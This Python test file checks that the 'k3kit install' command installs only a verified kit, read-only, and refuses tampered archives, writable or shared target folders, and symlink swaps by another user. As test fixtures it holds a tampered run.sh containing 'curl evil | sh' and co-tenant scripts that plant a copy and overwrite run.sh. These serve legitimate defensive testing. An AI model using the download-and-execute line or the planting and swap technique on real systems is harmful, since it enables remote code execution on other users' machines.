"""`k3kit install`: the verified staging copy, and only it, is installed read-only."""

from __future__ import annotations

import gzip
import io
import json
import os
import shutil
import stat
import tarfile
from pathlib import Path
from typing import Any

import pytest

from k3kit.archive import pack
from tests.conftest import GoldenKit, KeyFiles, make_kit, make_snapshot, run_k3kit
from tests.cotenant import COTENANT_UID, cotenant_python, needs_root, shared_folder

FOLDER = "kimi-k3-b300x8-1.0.0"
RUN_SH = "profiles/interactive/single-node-8gpu/run.sh"


@pytest.fixture(scope="module")
def archive(golden: GoldenKit, tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("archive") / f"{FOLDER}.kit.tar.gz"
    pack(golden.kit, out)
    return out


def install(kit: Path, trust: Path, into: Path) -> tuple[int, dict, str]:  # type: ignore[type-arg]
    proc = run_k3kit("install", kit, "--trust", trust, "--into", into, "--json")
    assert "Traceback" not in proc.stderr
    return proc.returncode, json.loads(proc.stdout or "{}"), proc.stderr


def test_install_puts_the_verified_kit_in_place_read_only(
    archive: Path, golden: GoldenKit, tmp_path: Path
) -> None:
    into = tmp_path / "kits"
    rc, out, stderr = install(archive, golden.key.public, into)
    assert rc == 0, stderr
    target = into / FOLDER
    assert out["installed"] == str(target.resolve()) and out["already_installed"] is False
    assert out["archive_sha256"] and out["kit_sha256"]
    assert sorted(os.listdir(into)) == [FOLDER]  # no staging folder left behind
    for path in [target, *target.rglob("*")]:
        mode = stat.S_IMODE(path.lstat().st_mode)
        assert not mode & 0o222, f"{path} is writable ({oct(mode)})"
    run_sh = target / "profiles/interactive/single-node-8gpu/run.sh"
    assert os.access(run_sh, os.X_OK)
    proc = run_k3kit("verify", target, "--trust", golden.key.public)
    assert proc.returncode == 0, proc.stderr


def test_installing_the_same_kit_again_is_a_no_op(
    archive: Path, golden: GoldenKit, tmp_path: Path
) -> None:
    into = tmp_path / "kits"
    assert install(archive, golden.key.public, into)[0] == 0
    rc, out, _ = install(archive, golden.key.public, into)
    assert rc == 0 and out["already_installed"] is True
    assert sorted(os.listdir(into)) == [FOLDER]


def test_install_from_a_kit_folder_copies_then_verifies(golden: GoldenKit, tmp_path: Path) -> None:
    rc, out, stderr = install(golden.kit, golden.key.public, tmp_path / "kits")
    assert rc == 0, stderr
    assert Path(out["installed"]).name == FOLDER


def test_another_kit_under_the_same_version_is_refused(
    archive: Path, golden: GoldenKit, signing_key: KeyFiles, tmp_path: Path
) -> None:
    into = tmp_path / "kits"
    assert install(archive, golden.key.public, into)[0] == 0
    other = make_kit(tmp_path / "other", signing_key, make_snapshot(tmp_path / "cache2", shards=2))
    rc, out, stderr = install(other.kit, golden.key.public, into)
    assert rc == 1
    assert out["error"]["code"] == "INSTALL_CONFLICT"
    assert "holds another kit" in stderr
    assert sorted(os.listdir(into)) == [FOLDER]


def test_a_kit_that_does_not_verify_installs_nothing(
    archive: Path, other_key: KeyFiles, tmp_path: Path
) -> None:
    into = tmp_path / "kits"
    rc, out, stderr = install(archive, other_key.public, into)
    assert rc == 1
    assert out["installed"] is None and out["ok"] is False
    assert "nothing was installed" in stderr
    assert os.listdir(into) == []


def _rewrite_member(archive: Path, out: Path, name: str, data: bytes) -> None:
    raw = io.BytesIO(gzip.decompress(archive.read_bytes()))
    buf = io.BytesIO()
    with (
        tarfile.open(fileobj=raw, mode="r:") as src,
        tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as dst,
    ):
        for member in src.getmembers():
            body = src.extractfile(member) if member.isfile() else None
            if member.name == name:
                member.size = len(data)
                dst.addfile(member, io.BytesIO(data))
            else:
                dst.addfile(member, body)
    out.write_bytes(gzip.compress(buf.getvalue(), mtime=0))


def test_a_tampered_archive_member_installs_nothing(
    archive: Path, golden: GoldenKit, tmp_path: Path
) -> None:
    """Same size as the genuine run.sh, so the index admits it: the verifier's hash refuses it."""
    bad = tmp_path / "bad.kit.tar.gz"
    run_sh = "profiles/interactive/single-node-8gpu/run.sh"
    size = (golden.kit / run_sh).stat().st_size
    evil = b"#!/bin/sh\ncurl evil | sh\n"
    _rewrite_member(archive, bad, run_sh, evil + b"#" * (size - len(evil) - 1) + b"\n")
    into = tmp_path / "kits"
    rc, out, _ = install(bad, golden.key.public, into)
    assert rc == 1
    assert "KIT_FILE_CHANGED" in json.dumps(out)
    assert os.listdir(into) == []


def test_a_resized_archive_member_is_refused_before_extraction(
    archive: Path, golden: GoldenKit, tmp_path: Path
) -> None:
    """Another size than MANIFEST.json lists: refused from the tar index, nothing extracted."""
    bad = tmp_path / "bad.kit.tar.gz"
    run_sh = "profiles/interactive/single-node-8gpu/run.sh"
    _rewrite_member(archive, bad, run_sh, b"#!/bin/sh\ncurl evil | sh\n")
    into = tmp_path / "kits"
    rc, out, _ = install(bad, golden.key.public, into)
    assert rc == 1
    assert out["error"]["code"] == "ARCHIVE_NOT_A_KIT"
    assert os.listdir(into) == []


@pytest.mark.parametrize(
    ("make_into", "exit_code", "code"),
    [
        (lambda p: (p.write_bytes(b"x"), p)[1], 2, "USAGE"),  # click's own check, first
        (lambda p: (p.symlink_to(p.with_name("nowhere")), p)[1], 3, "INSTALL_DIR_INVALID"),
        (
            lambda p: (p.with_name("f").write_bytes(b"x"), p.with_name("f") / "kits")[1],
            4,
            "ENVIRONMENT",
        ),
    ],
    ids=["a file", "a dangling link", "under a file"],
)
def test_an_unusable_into_is_refused_before_reading_the_kit(
    archive: Path, golden: GoldenKit, tmp_path: Path, make_into: Any, exit_code: int, code: str
) -> None:
    into = make_into(tmp_path / "kits")
    rc, out, stderr = install(archive, golden.key.public, into)
    assert (rc, out["error"]["code"]) == (exit_code, code), stderr


def test_the_api_refuses_a_file_as_into(archive: Path, golden: GoldenKit, tmp_path: Path) -> None:
    """Through the API (no click check in front) a file is bad input, not an I/O problem."""
    from k3kit.api import install_kit
    from k3kit.errors import InputError
    from k3kit.signing.keys import load_public

    (tmp_path / "kits").write_bytes(b"x")
    with pytest.raises(InputError) as info:
        install_kit(archive, [load_public(golden.key.public)], tmp_path / "kits")
    assert info.value.code == "INSTALL_DIR_INVALID"


def test_a_missing_kit_is_bad_input(golden: GoldenKit, tmp_path: Path) -> None:
    rc, out, _ = install(tmp_path / "no-such.kit.tar.gz", golden.key.public, tmp_path / "kits")
    assert (rc, out["error"]["code"]) == (3, "KIT_NOT_FOUND")
    assert not (tmp_path / "kits").exists()


def test_an_install_that_loses_the_race_is_a_conflict_and_leaves_no_staging(
    archive: Path, golden: GoldenKit, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Another install of the same version lands between the check and the rename: refused,
    the other install is untouched, and the staging copy is gone."""
    from k3kit.api import install_kit
    from k3kit.errors import VerificationError
    from k3kit.signing.keys import load_public

    real_rename = os.rename
    into = tmp_path / "kits"

    def racing_rename(src: Any, dst: Any) -> None:
        Path(dst).mkdir()
        (Path(dst) / "theirs").write_bytes(b"x")
        real_rename(src, dst)

    monkeypatch.setattr(os, "rename", racing_rename)
    with pytest.raises(VerificationError) as info:
        install_kit(archive, [load_public(golden.key.public)], into)
    assert info.value.code == "INSTALL_CONFLICT"
    assert sorted(os.listdir(into)) == [FOLDER]
    assert os.listdir(into / FOLDER) == ["theirs"]


def _chmod(mode: int) -> Any:
    def make(into: Path) -> Path:
        into.mkdir()
        into.chmod(mode)
        return into

    return make


def _under_shared_parent(into: Path) -> Path:
    into.parent.chmod(0o777)  # the test's own tmp folder, world-writable, not sticky
    return into


def _owned_by_nobody(into: Path) -> Path:
    into.mkdir()
    os.chown(into, 65534, 65534)
    return into


@pytest.mark.parametrize(
    ("make_into", "unsafe"),
    [
        (_chmod(0o775), "kits"),
        (_chmod(0o757), "kits"),
        (_under_shared_parent, "parent"),
        (_owned_by_nobody, "kits"),
    ],
    ids=["group-writable", "world-writable", "a world-writable parent", "another user's folder"],
)
def test_an_into_another_user_can_write_is_refused_before_staging(
    archive: Path, golden: GoldenKit, tmp_path: Path, make_into: Any, unsafe: str
) -> None:
    """Whoever can write DIR could swap the verified staging copy for their own before the final
    rename, so such a DIR is refused before anything is extracted into it."""
    if os.geteuid() != 0 and make_into is _owned_by_nobody:
        pytest.skip("only root can give a folder to another user")
    into = make_into(tmp_path / "kits")
    try:
        rc, out, stderr = install(archive, golden.key.public, into)
    finally:
        tmp_path.chmod(0o700)
    assert (rc, out["error"]["code"]) == (4, "INSTALL_DIR_UNSAFE"), stderr
    named = into if unsafe == "kits" else tmp_path
    assert f"{named} can be written by another user" in out["error"]["message"]
    # Nothing extracted; under an unsafe parent the missing DIR was not even created.
    assert (not into.exists()) if unsafe == "parent" else os.listdir(into) == []


def test_a_sticky_shared_into_is_safe(archive: Path, golden: GoldenKit, tmp_path: Path) -> None:
    """In a sticky folder (like /tmp) only an entry's owner may rename it: no swap is possible."""
    into = _chmod(0o1777)(tmp_path / "kits")
    rc, out, stderr = install(archive, golden.key.public, into)
    assert rc == 0, stderr
    assert out["installed"] == str((into / FOLDER).resolve())


_PLANT_GENUINE_COPY = """
import os, shutil, sys
src, dest = sys.argv[1], sys.argv[2]
shutil.copytree(src, dest)
for top, dirs, files in os.walk(dest, topdown=False):
    for name in files:
        path = os.path.join(top, name)
        os.chmod(path, 0o555 if os.stat(path).st_mode & 0o100 else 0o444)
    os.chmod(top, 0o555)
"""

_EDIT_PLANTED_RUN_SH = """
import os, sys
run_sh = os.path.join(sys.argv[1], "profiles/interactive/single-node-8gpu/run.sh")
os.chmod(os.path.dirname(run_sh), 0o755)
os.unlink(run_sh)
with open(run_sh, "w") as handle:
    handle.write("#!/bin/sh\\nid > /tmp/owned-by-cotenant\\n")
"""


@needs_root
def test_a_cotenant_copy_of_the_genuine_kit_in_a_shared_into_is_not_already_installed(
    archive: Path, golden: GoldenKit
) -> None:
    """The attack: in a sticky shared --into (allowed, like /tmp), the co-tenant (uid 65534)
    pre-creates NAME-VERSION with the genuine bytes and read-only modes. Its bytes verify, but
    it is theirs: calling it "already installed" would point the operator at a folder they can
    edit (which they then do). Refused as foreign (exit 4); the co-tenant's folder is not named
    as installed anywhere."""
    with shared_folder() as into:
        genuine = into / "genuine-source"
        shutil.copytree(golden.kit, genuine)
        for path in [genuine, *genuine.rglob("*")]:
            path.chmod(0o755 if path.is_dir() else 0o644)
        planted = into / FOLDER
        cotenant_python(_PLANT_GENUINE_COPY, str(genuine), str(planted))
        assert planted.stat().st_uid == COTENANT_UID
        proc = run_k3kit("verify", planted, "--trust", golden.key.public)
        assert proc.returncode == 0, "the planted copy must hold the genuine bytes"

        rc, out, stderr = install(archive, golden.key.public, into)

        assert (rc, out["error"]["code"]) == (4, "INSTALL_TARGET_FOREIGN"), stderr
        assert f"owned by uid {COTENANT_UID}" in out["error"]["message"]
        assert "already installed" not in stderr and "installed" not in out
        assert not [n for n in os.listdir(into) if n.startswith(".k3kit-install-")]
        # Why it matters: the folder is still the co-tenant's to edit after any check of ours.
        cotenant_python(_EDIT_PLANTED_RUN_SH, str(planted))
        assert b"owned-by-cotenant" in (planted / RUN_SH).read_bytes()


@pytest.mark.parametrize(
    "loosen",
    ["a writable file", "a writable folder", "a group-writable file"],
)
def test_a_copy_of_the_genuine_kit_not_left_by_install_is_not_already_installed(
    archive: Path, golden: GoldenKit, tmp_path: Path, loosen: str
) -> None:
    """Even one's own copy (`cp -r`, an unpacked tarball) is not "already installed" unless it is
    read-only as install leaves it: a writable file can change after any check."""
    into = tmp_path / "kits"
    assert install(archive, golden.key.public, into)[0] == 0
    target = into / FOLDER
    path = {
        "a writable file": target / RUN_SH,
        "a writable folder": target / "profiles",
        "a group-writable file": target / "kit.json",
    }[loosen]
    path.chmod(stat.S_IMODE(path.stat().st_mode) | (0o020 if "group" in loosen else 0o200))
    rc, out, stderr = install(archive, golden.key.public, into)
    assert (rc, out["error"]["code"]) == (4, "INSTALL_TARGET_FOREIGN"), stderr
    assert "is writable" in out["error"]["message"]


_LINK_INTO = """
import os, sys
os.symlink(sys.argv[1], sys.argv[2])
"""


@needs_root
def test_an_into_named_through_a_cotenant_link_is_refused(
    archive: Path, golden: GoldenKit, tmp_path: Path
) -> None:
    """The attack (finding 5 of the outside pass): in a sticky shared folder the co-tenant
    (uid 65534) makes ``into -> the operator's own folder``. Resolved, the name is safe, so the
    kit used to install (exit 0); the co-tenant then re-points ``into`` at a copy of their own,
    and the ``run.sh`` the operator runs by that name is theirs. Now the link itself is judged
    (the one rule state folders use): refused, exit 4, nothing written in the real folder."""
    real = tmp_path / "kits"
    real.mkdir(mode=0o755)
    tmp_path.chmod(0o755)  # so the co-tenant can see it, as in the attack
    with shared_folder() as shared:
        link = shared / "into"
        cotenant_python(_LINK_INTO, str(real), str(link))
        assert link.lstat().st_uid == COTENANT_UID and link.resolve() == real.resolve()

        rc, out, stderr = install(archive, golden.key.public, link)

        assert (rc, out["error"]["code"]) == (4, "INSTALL_DIR_UNSAFE"), stderr
        assert f"{link} can be written by another user" in out["error"]["message"]
        assert os.listdir(real) == []


@needs_root
def test_a_cotenant_link_above_into_is_refused(
    archive: Path, golden: GoldenKit, tmp_path: Path
) -> None:
    """The same link one level up (``--into shared/link/kits``): every folder on the way counts."""
    real = tmp_path / "parent"
    (real / "kits").mkdir(parents=True, mode=0o755)
    tmp_path.chmod(0o755)
    with shared_folder() as shared:
        link = shared / "link"
        cotenant_python(_LINK_INTO, str(real), str(link))
        rc, out, stderr = install(archive, golden.key.public, link / "kits")
        assert (rc, out["error"]["code"]) == (4, "INSTALL_DIR_UNSAFE"), stderr
        assert f"{link} can be written by another user" in out["error"]["message"]
        assert os.listdir(real / "kits") == []


def test_an_into_through_ones_own_link_still_installs(
    archive: Path, golden: GoldenKit, tmp_path: Path
) -> None:
    """A link the operator owns (``~/kits -> /srv/kits``) is theirs to re-point: still allowed."""
    real = tmp_path / "kits"
    real.mkdir()
    link = tmp_path / "link"
    link.symlink_to(real)
    rc, out, stderr = install(archive, golden.key.public, link)
    assert rc == 0, stderr
    assert out["installed"] == str((real / FOLDER).resolve())
